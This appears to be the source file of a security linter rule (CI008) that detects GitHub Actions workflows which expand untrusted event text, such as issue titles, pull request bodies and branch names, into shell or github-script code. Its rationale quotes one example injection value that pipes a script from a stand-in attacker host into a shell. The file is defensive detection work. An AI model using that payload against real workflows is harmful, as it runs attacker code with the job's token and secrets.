import { defineRule } from '../rule.js';
import {
  actionName,
  type CiStep,
  isGithubWorkflow,
  lineLocation,
  scriptLines,
  stepsOf,
} from './workflow.js';

/** Context values whose text the author of an issue, pull request, comment or commit chooses. */
const UNTRUSTED_PATHS = [
  'github\\.head_ref',
  'github\\.event\\.issue\\.(?:title|body)',
  'github\\.event\\.pull_request\\.(?:title|body|head\\.(?:ref|label|repo\\.default_branch))',
  'github\\.event\\.(?:comment|review|review_comment)\\.body',
  'github\\.event\\.discussion\\.(?:title|body)',
  'github\\.event\\.pages\\b[^\\s}]*\\.page_name',
  'github\\.event\\.(?:commits\\b[^\\s}]*|head_commit)\\.(?:message|author\\.(?:email|name))',
  'github\\.event\\.workflow_run\\.(?:head_branch|display_title)',
  'github\\.event\\.workflow_run\\.head_commit\\.(?:message|author\\.(?:email|name))',
];
const UNTRUSTED_CONTEXT = new RegExp(`\\b(?:${UNTRUSTED_PATHS.join('|')})\\b`);

const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

/** Returns the step with its script, plus the `script` input of `actions/github-script`. */
function withInlineScripts(step: CiStep): CiStep {
  if (actionName(step.uses) !== 'actions/github-script' || typeof step.inputs.script !== 'string') {
    return step;
  }
  return { ...step, scriptPaths: [...step.scriptPaths, [...step.path, 'with', 'script']] };
}

export const scriptInjectionRule = defineRule({
  id: 'CI008',
  name: 'script-injection',
  title: 'Untrusted event text is expanded into a script',
  severity: 'high',
  layer: 'vulnerability-management',
  target: 'ci',
  control: 'vulnerability-management.ci-supply-chain',
  status: 'stable',
  rationale:
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text shows GitHub expression syntax.
    'GitHub replaces `${{ }}` expressions in `run:` and `github-script` scripts before the shell or Node.js sees them, so their value becomes code. ' +
    'An issue title, pull request body, comment or branch name is chosen by whoever opens it, and a value such as `"; curl evil.example | sh; "` then runs in the job with its token and secrets.',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text shows GitHub expression syntax.
  fix: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`"$TITLE"`, or `process.env.TITLE` in `github-script`).',
  limitations: [
    'Only the contexts that GitHub lists as untrusted are checked, and workflow inputs, step outputs and artifacts that carry such text onwards are not followed.',
    'GitLab CI is not checked, because its variables are expanded by the shell at run time and not pasted into the script.',
  ],
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    'https://docs.zizmor.sh/audits/#template-injection',
  ],
  check(model, report) {
    for (const yaml of model.workflows) {
      if (!isGithubWorkflow(yaml)) continue;
      for (const step of stepsOf(yaml).map(withInlineScripts)) {
        for (const line of scriptLines(step)) {
          for (const match of line.text.matchAll(EXPRESSION)) {
            const context = UNTRUSTED_CONTEXT.exec(match[1]!)?.[0];
            if (!context) continue;
            report({
              message: `\`${context}\` is expanded into the script of job \`${step.job}\`, so its author can inject shell commands`,
              location: lineLocation(step, line, match.index, match[0].length),
              key: `${step.path.join('.')}:${context}`,
              evidence: match[0],
            });
          }
        }
      }
    }
  },
});
